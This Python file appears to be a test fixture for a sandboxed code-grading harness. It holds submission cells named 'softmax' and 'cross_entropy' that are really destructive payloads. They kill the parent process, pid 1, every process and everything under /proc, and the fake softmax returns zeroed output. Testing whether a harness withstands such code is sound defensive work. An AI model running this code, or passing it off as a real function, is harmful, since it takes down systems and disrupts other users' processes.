"""Signal the parent (zygote), pid 1 and every process (-1) with SIGKILL/SIGTERM/SIGSTOP."""

ASSIGNMENT = "softmax"
CELLS = {
    "softmax": r'''
import os, signal
def softmax(x, dim=-1, temperature=1.0):
    for pid in (os.getppid(), 1, -1):
        for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    return x * 0
''',
    "cross_entropy": r'''
import os, signal
try:
    os.killpg(0, signal.SIGKILL)
except OSError:
    pass
''',
}
